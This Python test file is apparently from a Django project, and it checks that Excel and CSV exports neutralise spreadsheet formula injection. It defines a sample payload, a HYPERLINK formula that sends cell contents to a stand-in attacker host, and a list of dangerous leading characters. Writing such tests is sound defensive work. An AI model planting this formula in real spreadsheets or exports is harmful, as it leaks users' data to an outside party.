"""Formula injection (issue 12): no cell a user wrote becomes a formula in any Excel or CSV export."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse
from openpyxl import Workbook

from hamafza.lib.spreadsheets import csv_writer, is_dangerous, save_workbook
from hamafza.meetings.models import ProgressReport
from hamafza.participation.models import Capacity
from hamafza.reports import render
from tests.participation.test_capacity import capacity, inventory, services  # noqa: F401
from tests.reports.conftest import scenario  # noqa: F401

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"جزئیات")'
ROOT = Path(__file__).resolve().parents[2] / "hamafza"


@pytest.mark.parametrize(
    "text, dangerous",
    [
        ("=1+2", True),
        ("+98 912", True),
        ("-2+3", True),
        ("@SUM(A1)", True),
        ("\tx", True),
        ("\r=1", True),
        ("-12", False),
        ("+3.5", False),
        ("گزارش", False),
        ("a=b", False),
        ("", False),
    ],
)
def test_what_counts_as_a_formula(text, dangerous):
    assert is_dangerous(text) is dangerous


def test_a_workbook_keeps_the_text_as_typed_but_as_text():
    workbook = Workbook()
    workbook.active.append(["گزارش", INJECTION, "@cmd", 5, "-3"])
    out = io.BytesIO()
    save_workbook(workbook, out)
    loaded = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    cells = list(loaded.active.iter_rows())[0]
    assert [c.value for c in cells] == ["گزارش", INJECTION, "@cmd", 5, "-3"]
    assert cells[1].data_type == "s" and cells[2].data_type == "s"
    assert cells[1].quotePrefix
    assert b"<f>" not in _sheet_xml(out.getvalue())


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_a_csv_file_gets_a_quote_in_front():
    out = io.StringIO()
    csv_writer(out).writerow(["x", INJECTION, -3, "-3", "\t=1"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["x", "'" + INJECTION, "-3", "-3", "'\t=1"]


def test_the_follow_up_workbook_has_no_live_formula(scenario):  # noqa: F811
    ProgressReport.objects.update(narrative=INJECTION)
    content = render.render(scenario.body, scenario.start, scenario.end, "xlsx", today=scenario.today)
    assert b"<f>" not in _sheet_xml(content) and b"HYPERLINK" in _sheet_xml(content) + _shared(content)
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    found = [c for ws in workbook for row in ws.iter_rows() for c in row if c.value == INJECTION]
    assert found and all(c.data_type == "s" for c in found)


def _shared(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in archive.namelist() else b""


@pytest.mark.django_db
def test_the_capacity_export_has_no_live_formula(inventory, client_for, viewer):  # noqa: F811
    Capacity.objects.update(note=INJECTION, place="+98 21 5555")
    response = client_for(viewer).get(reverse("participation:capacity_export"))
    assert response.status_code == 200
    assert b"<f>" not in _sheet_xml(response.content)
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    values = [c.value for row in workbook.active.iter_rows() for c in row]
    assert INJECTION in values and "+98 21 5555" in values


def test_every_export_goes_through_the_shared_helper():
    """A module that builds a workbook saves it with save_workbook; none writes CSV with csv.writer."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        if "migrations" in path.parts or path.name == "spreadsheets.py" or "demo" in str(path):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            offenders.append(f"{path}: csv.writer")
        if re.search(r"\b\w+\.save\((buffer|out|stream|response)\)", text) and "Workbook(" in text:
            offenders.append(f"{path}: workbook.save")
    assert offenders == []
